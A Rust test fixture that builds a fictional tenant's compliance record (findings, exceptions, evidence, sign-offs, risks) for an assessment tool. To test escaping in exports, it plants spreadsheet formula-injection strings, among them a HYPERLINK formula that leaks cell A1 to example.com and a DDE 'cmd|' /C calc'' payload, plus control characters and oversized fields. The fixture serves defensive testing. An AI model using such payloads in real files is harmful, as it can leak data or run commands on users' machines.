//! A tenant's record beside a made-up assessment: one of everything, hostile texts among it.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a fixture that fails loudly")]

use assay_model::{
    Language, Verdict,
    assessment::{Assessment, ClauseState},
    record::{
        Answer, ClauseHistory, Decision, Evidence, EvidenceState, Exception, Finding, FindingState, Paper, PaperKind,
        Record, Risk, Score, SignOff, SignOffState, finding_uid,
    },
};

/// A resource whose name a spreadsheet would take for a formula.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"https://example.com/?\"&A1,\"open\")";
/// A resource whose name holds what XML can't.
pub(crate) const CONTROL: &str = "arn:aws:s3:::a\u{0}b\u{1b}[2Jc\u{fffe}";
/// A justification that looks like a call of another programme.
pub(crate) const CALL: &str = "-2+3+cmd|' /C calc'!A0";
/// When the record was looked at.
const AT: &str = "2026-11-23T00:20:00Z";

/// The record; some clauses of the assessment are put into states that only a record gives.
pub(crate) fn kept(assessment: &mut Assessment) -> Record {
    let texts = Texts(assessment.language);
    give_papers(assessment, &texts);
    Record {
        tenant: texts.pick("Lantern Retail & Co", "ランタン商事株式会社"),
        at: AT.to_owned(),
        findings: findings(assessment, &texts),
        exceptions: exceptions(assessment, &texts),
        evidence: evidence(assessment, &texts),
        sign_offs: sign_offs(assessment, &texts),
        risks: risks(&texts),
        history: history(assessment),
    }
}

struct Texts(Language);

impl Texts {
    fn pick(&self, en: &str, ja: &str) -> String {
        if self.0 == Language::Ja { ja } else { en }.to_owned()
    }
}

/// The ids of the first assessed clauses in that state.
fn in_state(assessment: &Assessment, state: ClauseState, many: usize) -> Vec<String> {
    let clauses = assessment.clauses.iter().filter(|clause| clause.assessable && clause.state == state);
    clauses.take(many).map(|clause| clause.id.clone()).collect()
}

/// Two clauses with papers of every state; one of them ran out.
fn give_papers(assessment: &mut Assessment, texts: &Texts) {
    let ids = in_state(assessment, ClauseState::NeedsEvidence, 3);
    let paper = |key: &str, what: String, state: EvidenceState, until: Option<&str>| Paper {
        key: key.to_owned(),
        kind: if key.starts_with('D') { PaperKind::Document } else { PaperKind::Record },
        what,
        state,
        valid_until: until.map(str::to_owned),
        evidence: Vec::new(),
    };
    for clause in &mut assessment.clauses {
        let policy = texts.pick("Policy, approved", "承認済みの規程");
        let minutes = texts.pick("Minutes of the review", "見直しの議事録");
        if clause.id == ids[0] {
            clause.state = ClauseState::Stale;
            clause.papers = vec![
                paper("D1", policy, EvidenceState::Stale, Some("2026-10-31")),
                paper("R1", minutes, EvidenceState::Missing, None),
            ];
        } else if clause.id == ids[1] {
            clause.state = ClauseState::Met;
            clause.papers = vec![
                paper("D1", policy, EvidenceState::Expiring, Some("2026-12-10")),
                paper("R1", minutes, EvidenceState::Fresh, Some("2027-06-30")),
            ];
        }
    }
}

fn findings(assessment: &Assessment, texts: &Texts) -> Vec<Finding> {
    let fails = assessment.verdicts.iter().filter(|row| row.verdict == Verdict::Fail);
    let mut findings: Vec<Finding> = fails
        .enumerate()
        .map(|(index, row)| Finding {
            uid: finding_uid(&row.check, &row.resource_uid),
            check: row.check.to_string(),
            resource_uid: row.resource_uid.to_string(),
            account_id: row.account_id.to_string(),
            region: row.region.to_string(),
            clauses: row.clauses.iter().map(ToString::to_string).collect(),
            severity: row.severity,
            state: match index % 9 {
                7 => FindingState::Resolved,
                8 => FindingState::Gone,
                _ => FindingState::Open,
            },
            reason: row.reason.to_string(),
            first_seen: "2026-08-02T03:04:05Z".to_owned(),
            last_seen: "2026-11-23T00:17:41Z".to_owned(),
            opened_at: "2026-08-02T03:04:05Z".to_owned(),
            closed_at: None,
            reopened: 0,
            due: if index % 3 == 0 { "2026-09-01" } else { "2027-01-31" }.to_owned(),
            owner: (index % 4 != 0).then(|| texts.pick("Platform team", "基盤チーム")),
            exception: None,
        })
        .collect();
    FORMULA.clone_into(&mut findings[0].resource_uid);
    CONTROL.clone_into(&mut findings[1].resource_uid);
    "@SUM(1+1)*cmd".clone_into(&mut findings[2].reason);
    findings[3].reason = "x".repeat(40_000);
    findings[4].resource_uid = "https://example.com/".to_owned() + &"a".repeat(3_000);
    findings[5].exception = Some("X-1".to_owned());
    findings
}

fn exceptions(assessment: &Assessment, texts: &Texts) -> Vec<Exception> {
    let check = assessment.verdicts.iter().find(|row| row.verdict == Verdict::Fail).unwrap().check.clone();
    let exception = |id: &str, expires: &str, revoked: bool| Exception {
        id: id.to_owned(),
        check: check.to_string(),
        resources: "arn:aws:*:prod-*".to_owned(),
        reason: texts.pick(
            "The supplier replaces the appliance in January; until then traffic is filtered upstream.",
            "機器の更改が1月に予定されており、それまでは上流で通信を制限しています。",
        ),
        requested_by: texts.pick("M. Tan", "佐藤"),
        approved_by: texts.pick("R. Kumar", "鈴木"),
        created_at: "2026-09-01T08:00:00Z".to_owned(),
        expires: expires.to_owned(),
        revoked_at: revoked.then(|| "2026-10-01T00:00:00Z".to_owned()),
        revoked_by: revoked.then(|| texts.pick("R. Kumar", "鈴木")),
    };
    vec![
        exception("X-1", "2027-01-31", false),
        exception("X-2", "2026-10-31", false),
        exception("X-3", "2027-01-31", true),
    ]
}

fn evidence(assessment: &Assessment, texts: &Texts) -> Vec<Evidence> {
    let of = |clause: &str, paper: &str, id: &str, until: &str, withdrawn: bool| Evidence {
        id: id.to_owned(),
        framework: "cyber-trust/2022".to_owned(),
        clause: clause.to_owned(),
        paper: paper.to_owned(),
        title: texts.pick("Information security policy v4", "情報セキュリティ規程 第4版"),
        owner: texts.pick("Head of IT", "情報システム部長"),
        file_name: Some("policy-v4.pdf".to_owned()),
        sha256: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_owned()),
        size: Some(120_332),
        link: None,
        approved_on: Some("2026-01-15".to_owned()),
        observed_on: "2026-01-15".to_owned(),
        valid_until: until.to_owned(),
        review_on: Some("2026-12-01".to_owned()),
        added_at: "2026-02-01T01:02:03Z".to_owned(),
        added_by: texts.pick("M. Tan", "佐藤"),
        withdrawn_at: withdrawn.then(|| "2026-03-01T00:00:00Z".to_owned()),
        withdrawn_because: withdrawn.then(|| texts.pick("a draft was attached", "草案を添付していたため")),
    };
    let with_papers: Vec<&str> =
        assessment.clauses.iter().filter(|clause| !clause.papers.is_empty()).map(|clause| clause.id.as_str()).collect();
    vec![
        of(with_papers[0], "D1", "E-1", "2026-10-31", false),
        of(with_papers[0], "R1", "E-2", "2027-10-31", true),
        of(with_papers[1], "D1", "E-3", "2026-12-10", false),
        of(with_papers[1], "R1", "E-4", "2027-06-30", false),
        of(with_papers[1], "R9", "E-5", "2027-06-30", false),
    ]
}

fn sign_offs(assessment: &Assessment, texts: &Texts) -> Vec<SignOff> {
    let sign_off = |clause: &str, answer: Answer, proposed: ClauseState, status: SignOffState| SignOff {
        id: format!("S-{clause}"),
        framework: "cyber-trust/2022".to_owned(),
        clause: clause.to_owned(),
        answer,
        justification: texts.pick(
            "Reviewed with the owner on 20 November; the evidence is complete.",
            "11月20日に担当者と確認し、証跡が揃っていることを確かめました。",
        ),
        signed_by: texts.pick("M. Tan", "佐藤"),
        signed_at: "2026-11-20T09:00:00Z".to_owned(),
        assessment: "20261119T001500Z-7f3a".to_owned(),
        proposed,
        proposal_hash: String::new(),
        overridden: answer == Answer::Yes && proposed != ClauseState::Met,
        status,
    };
    let met = in_state(assessment, ClauseState::Met, 5);
    let not_met = in_state(assessment, ClauseState::NotMet, 4);
    let nothing = in_state(assessment, ClauseState::NothingToJudge, 1);
    let reopened = SignOffState::Reopened {
        at: "2026-11-23T00:18:00Z".to_owned(),
        from: ClauseState::Met,
        to: ClauseState::NotMet,
    };
    let withdrawn = SignOffState::Withdrawn { at: "2026-11-21T00:00:00Z".to_owned(), by: "Ravi".to_owned() };
    let mut all = vec![
        sign_off(&met[0], Answer::Yes, ClauseState::Met, SignOffState::Signed),
        sign_off(&met[1], Answer::Yes, ClauseState::Met, SignOffState::Signed),
        sign_off(&met[2], Answer::No, ClauseState::Met, SignOffState::Signed),
        sign_off(&met[3], Answer::Yes, ClauseState::Met, withdrawn),
        sign_off(&not_met[0], Answer::Yes, ClauseState::Met, reopened),
        sign_off(&not_met[1], Answer::No, ClauseState::NotMet, SignOffState::Signed),
        sign_off(&not_met[2], Answer::Yes, ClauseState::NotMet, SignOffState::Signed),
        sign_off(&nothing[0], Answer::NotApplicable, ClauseState::NothingToJudge, SignOffState::Signed),
    ];
    CALL.clone_into(&mut all[1].justification);
    // Another edition's answer is no answer here.
    let mut other = sign_off(&met[4], Answer::Yes, ClauseState::Met, SignOffState::Signed);
    "cyber-trust/2025".clone_into(&mut other.framework);
    all.push(other);
    all
}

fn risks(texts: &Texts) -> Vec<Risk> {
    let risk = |id: &str, title: String, domains: &[&str], inherent: (u8, u8), residual: (u8, u8)| Risk {
        id: id.to_owned(),
        title,
        description: texts.pick(
            "Somebody outside reads or changes what only staff should see.",
            "社外の第三者が、社員のみに許可された情報を閲覧または改ざんする。",
        ),
        domains: domains.iter().map(|domain| (*domain).to_owned()).collect(),
        inherent: Score { likelihood: inherent.0, impact: inherent.1 },
        residual: Score { likelihood: residual.0, impact: residual.1 },
        decision: Decision::Accept,
        treatment: texts.pick("Public access is blocked for all accounts.", "全アカウントで公開アクセスを遮断する。"),
        owner: texts.pick("Head of IT", "情報システム部長"),
        target: Some("2027-03-31".to_owned()),
        created_at: "2026-06-01T00:00:00Z".to_owned(),
        updated_at: "2026-11-01T00:00:00Z".to_owned(),
        closed_at: None,
    };
    let leak = texts.pick("Customer data leaks", "顧客データの漏えい");
    let stop = texts.pick("The shop stands still", "店舗システムの停止");
    let mut risks = vec![
        risk("R-1", leak, &["B.8", "B.9"], (4, 5), (2, 5)),
        risk("R-2", stop, &["B.22"], (3, 4), (1, 4)),
        risk("R-3", "=1+1".to_owned(), &[], (5, 5), (2, 5)),
        risk("R-4", texts.pick("Old risk", "終了したリスク"), &["B.1"], (2, 2), (1, 1)),
    ];
    risks[0].decision = Decision::Mitigate;
    risks[3].closed_at = Some("2026-10-01T00:00:00Z".to_owned());
    risks
}

fn history(assessment: &Assessment) -> Vec<ClauseHistory> {
    let assessed = assessment.clauses.iter().filter(|clause| clause.assessable);
    let met = in_state(assessment, ClauseState::Met, 1);
    assessed
        .map(|clause| ClauseHistory {
            clause: clause.id.clone(),
            state: clause.state,
            since: "2026-08-01T00:17:00Z".to_owned(),
            first_assessed: "2026-08-01T00:17:00Z".to_owned(),
            last_assessed: "2026-11-23T00:17:41Z".to_owned(),
            assessments: 17,
            days_met: match clause.state {
                ClauseState::Met if met.contains(&clause.id) => 114,
                ClauseState::Met => 40,
                _ => 0,
            },
            longest_gap: 9,
        })
        .collect()
}
